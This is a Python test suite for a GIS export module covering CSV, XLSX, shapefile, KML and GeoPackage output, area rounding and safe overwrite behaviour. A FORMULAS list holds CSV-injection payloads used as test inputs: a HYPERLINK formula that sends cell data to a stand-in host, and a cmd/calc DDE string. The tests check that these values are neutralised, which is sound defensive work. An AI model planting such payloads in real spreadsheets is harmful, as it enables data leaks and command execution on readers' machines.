"""Export: every format reads back what was written; QGIS style embedded in the GeoPackage."""

from __future__ import annotations

import os
import re
import sqlite3
from pathlib import Path

import defusedxml.ElementTree as SafeET
import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from geopandas.testing import assert_geodataframe_equal

from geo.crs import area_ha
from geo.errors import InputDataError
from geo.io import read_vector
from layers.catalogue import CATALOGUE
from layers.export import FORMATS, SUFFIX, area_column_of, export_frame, export_layer, qml_for
from layers.store import GeoPackageStore, create_store
from tests.geo.test_io_corpus import E0, N0, square


def _lots() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "id": ["L1", "L2", "L3"],
            "name": ["Lô A1", "Lô Phố Ràng", "Lô Bảo Hà"],
            "source": ["test"] * 3,
            "geom_quality": ["surveyed"] * 3,
            "cluster_id": ["ccn_pho_rang"] * 3,
            "status": ["leased", "vacant", "reserved"],
        },
        geometry=[square(E0 + 2000 * i, side_m=100.0 * (i + 1)) for i in range(3)],
        crs=9208,
    )


def _points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"id": ["p1", "p2"], "name": ["Xưởng A", "Xưởng B"], "source": ["t", "t"], "geom_quality": ["surveyed"] * 2},
        geometry=[shapely.Point(E0, N0), shapely.Point(E0 + 1234.5, N0 + 321.25)],
        crs=9208,
    )


@pytest.fixture
def store(tmp_path: Path) -> GeoPackageStore:
    s = create_store(tmp_path / "store.gpkg")
    s.write_layer("cluster_lots", _lots(), user="t", message="test", origin="imported")
    s.write_layer("ttcn_facilities", _points(), user="t", message="test", origin="imported")
    return s


SHP_NAMES = {"geom_quali": "geom_quality", "cluster_id": "cluster_id"}


def _back(path: Path, fmt: str, crs: str) -> gpd.GeoDataFrame:
    frame, report = read_vector(path, crs=crs if fmt in ("csv", "xlsx") else None)
    assert report.ok, report.errors
    frame = frame.rename(columns=SHP_NAMES)
    return frame


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("crs", ["EPSG:9208", "EPSG:4326"])
@pytest.mark.parametrize("layer_id", ["cluster_lots", "ttcn_facilities"])
def test_round_trip(store: GeoPackageStore, tmp_path: Path, fmt: str, crs: str, layer_id: str) -> None:
    out = tmp_path / f"out{SUFFIX[fmt]}"
    result = export_layer(store, layer_id, fmt, out, crs=crs)
    assert result.features == len(store.read_layer(layer_id))
    expected = store.read_layer(layer_id, crs="EPSG:4326" if fmt == "kml" else crs)
    back = _back(out, fmt, result.crs)
    assert back.crs.to_epsg() == expected.crs.to_epsg()
    cols = ["id", "name", "source", "geom_quality"]
    assert_geodataframe_equal(
        back[[*cols, "geometry"]].astype({c: object for c in cols}),
        expected[[*cols, "geometry"]].astype({c: object for c in cols}),
        check_less_precise=True,
        check_dtype=False,
        normalize=True,
    )
    if fmt in ("csv", "xlsx") and layer_id == "cluster_lots":
        np.testing.assert_allclose(back["area_ha"].astype(float), area_ha(expected).round(4))


def test_csv_has_area_in_ha_measured_in_vn2000(store: GeoPackageStore, tmp_path: Path) -> None:
    out = tmp_path / "lots.csv"
    export_layer(store, "cluster_lots", "csv", out, crs="EPSG:4326")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    table = pd.read_csv(out, encoding="utf-8-sig")
    assert list(table["area_ha"]) == [1.0, 4.0, 9.0]  # 100 m, 200 m, 300 m squares in EPSG:9208
    assert list(table["name"]) == ["Lô A1", "Lô Phố Ràng", "Lô Bảo Hà"]


def test_zipped_shapefile_has_prj_and_utf8_cpg(store: GeoPackageStore, tmp_path: Path) -> None:
    import zipfile

    out = tmp_path / "lots.zip"
    result = export_layer(store, "cluster_lots", "shp", out)
    names = zipfile.ZipFile(out).namelist()
    # .json: the full field names the 10-character DBF cut (geom_quality ...), read back by the importer
    assert sorted(n.rsplit(".", 1)[1] for n in names) == ["cpg", "dbf", "json", "prj", "shp", "shx"]
    assert zipfile.ZipFile(out).read("cluster_lots.cpg").strip() == b"UTF-8"
    assert any("10 characters" in w for w in result.warnings)


def test_geopackage_carries_a_qgis_style(store: GeoPackageStore, tmp_path: Path) -> None:
    out = tmp_path / "lots.gpkg"
    export_layer(store, "cluster_lots", "gpkg", out)
    con = sqlite3.connect(out)
    try:
        rows = con.execute(
            "SELECT f_table_name, f_geometry_column, useAsDefault, styleQML FROM layer_styles"
        ).fetchall()
        contents = {r[0] for r in con.execute("SELECT table_name FROM gpkg_contents")}
    finally:
        con.close()
    assert len(rows) == 1
    table, geom, default, qml = rows[0]
    assert (table, geom, default) == ("cluster_lots", "geom", 1)
    assert "layer_styles" in contents
    root = SafeET.fromstring(qml)
    layer = CATALOGUE.get("cluster_lots")
    renderer = root.find("renderer-v2")
    assert renderer is not None
    if layer.style.color_field:
        assert renderer.get("type") == "categorizedSymbol"
        assert renderer.get("attr") == layer.style.color_field
    # the style's colour appears as QGIS r,g,b,a
    c = layer.style.color.lstrip("#")
    rgb = ",".join(str(int(c[i : i + 2], 16)) for i in (0, 2, 4))
    assert rgb in qml
    # and the data still reads as the layer (layer_styles is an attribute table)
    back, _ = read_vector(out)
    assert len(back) == 3


@pytest.mark.parametrize("layer_id", [layer.id for layer in CATALOGUE])
def test_every_catalogue_style_makes_well_formed_qml(layer_id: str) -> None:
    root = SafeET.fromstring(qml_for(CATALOGUE.get(layer_id)))
    assert root.tag == "qgis"
    assert root.find("renderer-v2") is not None


def test_unknown_format(tmp_path: Path) -> None:
    with pytest.raises(InputDataError, match="not an export format"):
        export_frame(_lots(), "dwg", tmp_path / "x.dwg")


def test_kml_is_always_wgs84(store: GeoPackageStore, tmp_path: Path) -> None:
    result = export_layer(store, "cluster_lots", "kml", tmp_path / "a.kml", crs="EPSG:9208")
    assert result.crs == "EPSG:4326"
    assert any("KML is always in EPSG:4326" in w for w in result.warnings)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_areas_are_rounded_to_square_metres(tmp_path: Path, fmt: str) -> None:
    # an irregular polygon drawn in degrees: its area measured in EPSG:9208 carries floating-point noise
    lon, lat = 104.47, 22.24
    ring = [(lon, lat), (lon + 0.0071234, lat + 0.0003), (lon + 0.0069, lat + 0.0065432), (lon - 0.0002, lat + 0.006)]
    frame = gpd.GeoDataFrame(
        {"id": ["a", "b"], "name": ["x", "y"], "measured": [64.9999999236553, 1.5]},
        geometry=[shapely.Polygon(ring), shapely.box(lon, lat, lon + 0.00123, lat + 0.00077)],
        crs=4326,
    )
    raw = area_ha(frame)
    assert any(len(repr(float(v)).split(".")[1]) > 4 for v in raw)  # the noise is there before rounding
    out = tmp_path / f"t{SUFFIX[fmt]}"
    export_frame(frame, fmt, out)
    table = pd.read_csv(out, encoding="utf-8-sig", dtype=str) if fmt == "csv" else pd.read_excel(out, dtype=str)
    for text in table["area_ha"]:
        assert re.fullmatch(r"\d+(\.\d{1,4})?", text), text
    np.testing.assert_allclose(table["area_ha"].astype(float), raw, atol=5e-5)
    assert float(table["measured"][0]) == 64.9999999236553  # a stored value is written as stored


# --- measured areas only for measured shapes (issue 14) ------------------------------------------------------


def _read_table(path: Path, fmt: str) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig") if fmt == "csv" else pd.read_excel(path)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tables_give_no_area_for_schematic_shapes(tmp_path: Path, fmt: str) -> None:
    """A district-wide zone drawn as the whole schematic district (~129,587 ha) must not export that as its area."""
    from layers.authored import load_layer
    from layers.settings import DATA_DIR

    zones = load_layer(CATALOGUE.get("material_zones_plan"), DATA_DIR)
    out = tmp_path / f"zones{SUFFIX[fmt]}"
    result = export_frame(zones, fmt, out)
    table = _read_table(out, fmt).set_index("id")
    que = table.loc["mz_district_que"]
    assert que["planned_ha"] == 21184.07  # the plan's figure stays
    assert pd.isna(que["area_ha"])  # not the schematic district's 129,587 ha
    assert "schematic" in que["area_ha_note"] and "surveyed" in que["area_ha_note"]
    assert table["area_ha"].isna().all()
    located = zones.set_index("id").geometry.notna()
    assert table.loc[located[located].index, "area_ha_note"].notna().all()
    assert pd.isna(table.loc["mz_che", "area_ha_note"])  # unlocated: no shape, nothing to explain
    assert any("area_ha left empty for 10 of 11 features" in w for w in result.warnings)


def test_tables_measure_surveyed_and_digitised_shapes_only(tmp_path: Path) -> None:
    lots = _lots().assign(geom_quality=["surveyed", "digitised", "approximate"])
    out = tmp_path / "lots.csv"
    result = export_frame(lots, "csv", out)
    table = _read_table(out, "csv").set_index("id")
    assert table.loc["L1", "area_ha"] == pytest.approx(1.0) and table.loc["L2", "area_ha"] == pytest.approx(4.0)
    assert pd.isna(table.loc["L3", "area_ha"]) and "'approximate'" in table.loc["L3", "area_ha_note"]
    assert table.loc[["L1", "L2"], "area_ha_note"].isna().all()
    assert any("1 of 3 features" in w for w in result.warnings)
    # all measured: no note column and no warning
    clean = export_frame(_lots(), "csv", tmp_path / "clean.csv")
    assert "area_ha_note" not in _read_table(tmp_path / "clean.csv", "csv").columns
    assert not any("area_ha" in w for w in clean.warnings)


def _plan_zones(quality: str | None) -> gpd.GeoDataFrame:
    """The plan's raw-material zones as built from data/; with ``quality``, every located shape made that."""
    from layers.authored import load_layer
    from layers.settings import DATA_DIR

    zones = load_layer(CATALOGUE.get("material_zones_plan"), DATA_DIR)
    if quality is not None:
        located = zones.geometry.notna() & ~zones.geometry.is_empty
        zones.loc[located, "geom_quality"] = quality
    return zones


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_plan_zone_keeps_the_plans_hectares_apart_from_its_communes_area(tmp_path: Path, fmt: str) -> None:
    """A zone drawn as the union of its communes (digitised after a real boundary import) is not that big.

    ``planned_ha`` is the plan's figure; the shape's measured area is ``communes_area_ha`` and no ``area_ha`` column
    is written that a reader could take for the zone's area.
    """
    zones = _plan_zones("digitised")  # as re-derived from real boundaries (services.boundaries)
    store = create_store(tmp_path / "store.gpkg")
    store.write_layer("material_zones_plan", zones, user="t", message="test", origin="derived")
    out = tmp_path / f"zones{SUFFIX[fmt]}"
    result = export_layer(store, "material_zones_plan", fmt, out)
    table = _read_table(out, fmt).set_index("id")
    assert "area_ha" not in table.columns and "area_ha_note" not in table.columns
    que = table.loc["mz_que_sa"]
    assert que["planned_ha"] == zones.set_index("id").at["mz_que_sa", "planned_ha"]  # the seed's figure, untouched
    shape = zones[zones["id"] == "mz_que_sa"]
    assert que["communes_area_ha"] == pytest.approx(float(area_ha(shape).round(4).iloc[0]))
    assert que["communes_area_ha"] > 1.5 * que["planned_ha"]  # the communes' land, not the zone's
    assert table["communes_area_ha"].drop(index="mz_che").notna().all() and pd.isna(
        table.at["mz_che", "communes_area_ha"]
    )
    assert any(w.startswith("communes_area_ha is the measured area of each shape") for w in result.warnings)


def test_schematic_plan_zones_export_no_area_under_either_name(tmp_path: Path) -> None:
    store = create_store(tmp_path / "store.gpkg")
    store.write_layer("material_zones_plan", _plan_zones(None), user="t", message="test", origin="authored")
    result = export_layer(store, "material_zones_plan", "csv", tmp_path / "zones.csv")
    table = _read_table(tmp_path / "zones.csv", "csv").set_index("id")
    assert "area_ha" not in table.columns and table["communes_area_ha"].isna().all()
    assert "schematic" in table.at["mz_district_que", "communes_area_ha_note"]
    assert any("communes_area_ha left empty for 10 of 11 features" in w for w in result.warnings)
    assert not any("is the measured area of each shape" in w for w in result.warnings)


def test_a_layer_whose_shapes_are_its_features_keeps_area_ha(store: GeoPackageStore, tmp_path: Path) -> None:
    assert area_column_of(CATALOGUE.get("cluster_lots")) == "area_ha" == area_column_of(None)
    assert area_column_of(CATALOGUE.get("material_zones_plan")) == "communes_area_ha"
    export_layer(store, "cluster_lots", "csv", tmp_path / "lots.csv")
    assert "area_ha" in _read_table(tmp_path / "lots.csv", "csv").columns


# --- issue 14: no live formula in a spreadsheet, and an export never destroys the store ----------------------

#: text a spreadsheet would run as a formula (OWASP CSV injection), also after a leading tab, CR or spaces
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"mở")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
PLAIN = ["Công ty =TNHH", "-5", "+84", "3.5", "Nhôm kính"]


def _hostile_lots() -> gpd.GeoDataFrame:
    n = len(FORMULAS) + len(PLAIN)
    return gpd.GeoDataFrame(
        {
            "id": [f"L{i}" for i in range(n)],
            "tenant": FORMULAS + PLAIN,
            "geom_quality": ["surveyed"] * n,
            "delta": [-5.0, 1.5] * (n // 2) + [-1.0] * (n % 2),
        },
        geometry=[square(E0 + 500 * i, side_m=100.0) for i in range(n)],
        crs=9208,
    )


def test_formula_text_is_told_apart_from_numbers_and_plain_text() -> None:
    from layers.export import is_formula_text, safe_cell

    assert all(is_formula_text(v) for v in FORMULAS)
    assert not any(is_formula_text(v) for v in PLAIN)
    assert not any(is_formula_text(v) for v in (-5, 1.5, None, "", True))
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-5") == "-5" and safe_cell(-5.0) == -5.0


def test_csv_cells_that_would_run_begin_with_a_quote(tmp_path: Path) -> None:
    import csv

    out = tmp_path / "lots.csv"
    result = export_frame(_hostile_lots(), "csv", out)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    tenants = [r["tenant"] for r in rows]
    assert tenants[: len(FORMULAS)] == ["'" + v for v in FORMULAS]  # the value stays readable after the quote
    assert tenants[len(FORMULAS) :] == PLAIN
    assert [r["delta"] for r in rows][:2] == ["-5.0", "1.5"]  # numbers stay numbers
    assert any(f"{len(FORMULAS)} text cell(s) begin like a spreadsheet formula" in w for w in result.warnings)


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "lots.xlsx"
    export_frame(_hostile_lots(), "xlsx", out)
    sheet = load_workbook(out)["data"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("tenant")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert [c.value for c in cells] == FORMULAS + PLAIN  # as typed, no quote added
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells[: len(FORMULAS)] if c.value.lstrip(" \t\r").startswith(("=", "＝")))
    deltas = [row[header.index("delta")] for row in sheet.iter_rows(min_row=2)]
    assert deltas[0].value == -5.0 and deltas[0].data_type == "n"


def test_an_export_is_refused_over_the_store_and_its_files(store: GeoPackageStore, tmp_path: Path) -> None:
    history = [v.version for v in store.history("cluster_lots")]
    link = tmp_path / "link.gpkg"
    link.symlink_to(store.path)
    wal, shm = Path(f"{store.path}-wal"), Path(f"{store.path}-shm")
    for target in (store.path, wal, shm, link, tmp_path / "." / "store.gpkg"):
        for fmt in ("gpkg", "csv"):
            with pytest.raises(InputDataError) as info:
                export_layer(store, "cluster_lots", fmt, target)
            assert info.value.code == "export.onto_store", target
    assert [v.version for v in GeoPackageStore(store.path).history("cluster_lots")] == history
    assert link.is_symlink() and not Path(f"{store.path}-journal").exists()


@pytest.mark.parametrize(
    ("where", "code"),
    [(".", "export.is_directory"), ("pipe", "export.not_a_file"), ("a" * 300 + ".csv", "export.name_too_long")],
)
def test_an_export_names_a_regular_file(store: GeoPackageStore, tmp_path: Path, where: str, code: str) -> None:
    target = tmp_path / where
    if where == "pipe":  # a named pipe stands for any device (never a real one: a failing test would replace it)
        os.mkfifo(target)
    with pytest.raises(InputDataError) as info:
        export_layer(store, "cluster_lots", "csv", target)
    assert info.value.code == code
    expected = ["pipe", "store.gpkg"] if where == "pipe" else ["store.gpkg"]
    assert sorted(p.name for p in tmp_path.iterdir()) == expected  # no temporary file left behind
    assert where != "pipe" or not target.is_file()  # the pipe is still a pipe


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_existing_file_is_replaced_whole_and_said_so(store: GeoPackageStore, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"lots{SUFFIX[fmt]}"
    first = export_layer(store, "cluster_lots", fmt, out)
    assert not any("replaced" in w for w in first.warnings)
    out.write_bytes(b"an older export")
    again = export_layer(store, "cluster_lots", fmt, out)
    assert any(f"{out} existed and was replaced" in w for w in again.warnings)
    assert out.read_bytes() != b"an older export" and out.stat().st_size > 100
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["store.gpkg", out.name])


def test_a_failed_export_leaves_the_old_file(
    store: GeoPackageStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    import layers.export as export_module

    out = tmp_path / "lots.csv"
    out.write_text("kept")

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export_module, "_write_table", full)
    with pytest.raises(OSError) as info:
        export_layer(store, "cluster_lots", "csv", out)
    assert getattr(info.value, "code", None) == "export.disk_full" and "disk is full" in str(info.value)
    assert out.read_text() == "kept" and sorted(p.name for p in tmp_path.iterdir()) == ["lots.csv", "store.gpkg"]


def test_the_use_case_refuses_the_store_too(store: GeoPackageStore, tmp_path: Path) -> None:
    from services.data import export

    with pytest.raises(InputDataError) as info:
        export(store, "cluster_lots", "gpkg", store.path, crs="EPSG:9208")
    assert info.value.code == "export.onto_store"
    with pytest.raises(InputDataError) as info:
        export(store, "cluster_lots", "csv", tmp_path / "lots.csv" / "x.csv", crs="EPSG:9208")  # a file: no folder
    assert info.value.code == "export.no_folder"
